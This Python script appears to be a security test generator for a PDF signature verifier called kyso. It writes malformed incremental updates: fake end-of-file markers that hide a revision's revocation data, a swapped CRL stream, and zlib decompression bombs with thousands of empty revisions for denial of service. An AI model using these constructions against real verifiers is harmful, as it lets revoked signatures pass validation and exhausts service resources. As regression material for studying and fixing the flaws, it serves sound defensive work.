#!/usr/bin/env python3
"""An incremental update that holds many fake revision ends: a stream whose data repeats
`startxref <the first revision's cross-reference offset> %%EOF`. kyso read the DSS of the
revisions ending at the newest 256 `%%EOF` strings of the file, so 256 such strings hid every
earlier revision's DSS (each fake end read as the first revision), and with it a CRL saying
"revoked" that a later update had dropped from the final DSS (found by an attacker's reading
of verify/, 2026-12-02). Written with Python and nothing of kyso's; the update is a
cross-reference stream (ISO 32000-1 §7.5.8), as pyHanko writes them, appended to IN.pdf.

    dss_hiding.py IN.pdf OUT.pdf N

    dss_hiding.py relist IN.pdf OUT.pdf NUM FROM.pdf FROMNUM
        an update that places under NUM (a DSS's CRL stream) the stream FROM.pdf's object
        FROMNUM holds (another CRL), leaving the DSS that names NUM as it was. kyso read each
        DSS dictionary once, by where it lies, so the earlier revision's CRL under NUM was
        never read (found by a review of the fix above, 2026-12-02).

    dss_hiding.py views IN.pdf OUT.pdf SECTIONS ENTRIES BOMBS
        an update whose DSS arrays are one array: BOMBS zlib bombs of 60 MiB, then ENTRIES
        references to one small stream; then SECTIONS empty cross-reference sections. Each
        section is a revision whose DSS is read again; with the bombs spending the decoding
        budget nothing was marked read, and each revision walked every entry again (121 s
        for 1,000 sections of 10,000 entries, debug build; found by the same review).
"""
import re
import sys

relist = sys.argv[1] == "relist"
views = sys.argv[1] == "views"
if views:
    src, dst = sys.argv[2], sys.argv[3]
    sections, entries, bombs = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
    count = 0
elif relist:
    src, dst, relist_num, donor, donor_num = sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5], int(sys.argv[6])
    count = 0
else:
    src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
pdf = open(src, "rb").read()

starts = [int(m.group(1)) for m in re.finditer(rb"startxref\s+(\d+)", pdf)]
first, last = starts[0], starts[-1]
# The newest trailer: a cross-reference stream's dictionary or a table's trailer.
if pdf[last:last + 4] == b"xref":
    trailer = pdf[pdf.index(b"trailer", last):pdf.index(b"startxref", last)]
else:
    trailer = pdf[last:pdf.index(b"stream", last)]


def key(name):
    m = re.search(rb"/" + name + rb"\s*(\d+\s+\d+\s+R|\[[^\]]*\]|\d+)", trailer)
    return m.group(1) if m else None


out = bytearray(pdf)
if not out.endswith(b"\n"):
    out += b"\n"
num = int(key(b"Size"))
placed = {}


def add(body):
    """Write a new object and return its number."""
    global num
    n = num
    num += 1
    placed[n] = len(out)
    out.extend(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    return n


def stream(data, extra=b""):
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


if views:
    import zlib
    bomb = zlib.compress(bytes(60 << 20), 9)
    refs = [add(stream(bomb, b" /Filter /FlateDecode")) for _ in range(bombs)]
    small = add(stream(zlib.compress(b"not a CRL"), b" /Filter /FlateDecode"))
    array = add(b"[" + b" ".join(b"%d 0 R" % r for r in refs + [small] * entries) + b"]")
    dss = add(b"<< /Certs %d 0 R /CRLs %d 0 R /OCSPs %d 0 R >>" % (array, array, array))
    # The catalog's newest version, naming the new DSS.
    root = int(key(b"Root").split()[0])
    at = [m.end() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % root, pdf)][-1]
    catalog = pdf[at:pdf.index(b"endobj", at)].strip()
    catalog = re.sub(rb"/DSS\s+\d+\s+\d+\s+R", b"", catalog)
    placed[root] = len(out)
    out.extend(b"%d 0 obj\n" % root + catalog[:catalog.rindex(b">>")] + b"/DSS %d 0 R\n>>\nendobj\n" % dss)
elif relist:
    body = open(donor, "rb").read()
    at = [m.end() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % donor_num, body)][-1]
    obj = body[at:body.index(b"endobj", at)].strip()
    placed[relist_num] = len(out)
    out.extend(b"%d 0 obj\n" % relist_num + obj + b"\nendobj\n")
else:
    add(stream(b"".join(b"startxref\n%d\n%%%%EOF\n" % first for _ in range(count))))

xref_num = num
placed[xref_num] = len(out)
nums = sorted(placed)
index = b" ".join(b"%d 1" % n for n in nums)
rows = b"".join(bytes([1]) + placed[n].to_bytes(4, "big") + b"\0\0" for n in nums)
extra = b"".join(b" /%s %s" % (k, key(k)) for k in (b"Info", b"ID") if key(k))
out += (b"%d 0 obj\n<< /Type /XRef /W [1 4 2] /Index [%s] /Size %d /Prev %d /Root %s%s /Length %d >>\nstream\n"
        % (xref_num, index, xref_num + 1, last, key(b"Root"), extra, len(rows)))
out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % placed[xref_num]
prev = placed[xref_num]
for _ in range(sections if views else 0):
    # An empty cross-reference section: one more revision, the same objects.
    at = len(out)
    out += (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root %s%s /Prev %d >>\n"
            b"startxref\n%d\n%%%%EOF\n" % (xref_num + 1, key(b"Root"), extra, prev, at))
    prev = at
open(dst, "wb").write(out)
